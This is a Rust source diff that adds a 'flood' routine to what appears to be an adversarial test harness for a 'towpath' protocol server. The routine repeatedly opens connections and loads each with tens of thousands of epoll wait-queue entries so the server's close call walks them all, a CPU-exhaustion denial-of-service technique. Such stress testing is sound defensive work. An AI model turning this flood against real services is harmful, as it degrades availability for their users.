@@ -1,6 +1,7 @@
 //! Hundreds of thousands of wait-queue entries on an object that the server wakes: the server's own
 //! system call walks them all.
 
+use std::collections::VecDeque;
 use std::io;
 use std::os::fd::{AsFd, AsRawFd, BorrowedFd, OwnedFd};
 use std::sync::Arc;
@@ -13,11 +14,15 @@ use rustix::net::SendFlags;
 use towpath_protocol::channel::Channel;
 use towpath_protocol::message::{Close, Message};
 
-use crate::session::Target;
+use crate::session::{Target, connect_at_once};
 use crate::{Deeds, Field, sys};
 
 /// Wait-queue entries, unless the field says otherwise.
 const ENTRIES: u64 = 300_000;
+/// Entries on each connection of a flood.
+const FLOOD_ENTRIES: u64 = 60_000;
+/// Connections of a flood that the attacker keeps.
+const HELD: usize = 2000;
 /// Descriptors left for other uses.
 const SPARE: usize = 1500;
 /// The time that one notification may take before the attacker requests the next.
@@ -153,6 +158,27 @@ pub(crate) fn nested(field: &Field) -> io::Result<Deeds> {
     }
     drop(pollers);
     Ok(vec![("entries", entries), ("notified", notified)])
+}
+
+/// Connects without waiting, again and again, with entries of `poll` on each connection: the server's close wakes them.
+pub(crate) fn flood(field: &Field) -> io::Result<Deeds> {
+    let entries = field.size_or(FLOOD_ENTRIES);
+    let outer = epoll::create(epoll::CreateFlags::CLOEXEC)?;
+    let pollers = Pollers::on(outer.as_fd(), entries)?;
+    let (data, flags) = (epoll::EventData::new_u64(0), epoll::EventFlags::IN);
+    let (mut held, mut connected) = (VecDeque::new(), 0);
+    field.begun();
+    while !field.over() {
+        let Ok(socket) = connect_at_once(&field.socket) else { continue };
+        epoll::add(&outer, &socket, data, flags)?;
+        connected += 1;
+        held.push_back(socket);
+        if held.len() > HELD {
+            held.pop_front();
+        }
+    }
+    drop(pollers);
+    Ok(vec![("entries", entries), ("connected", connected)])
 }
 
 /// Attaches epoll items to the attacker's end of the control connection, which each answer wakes.
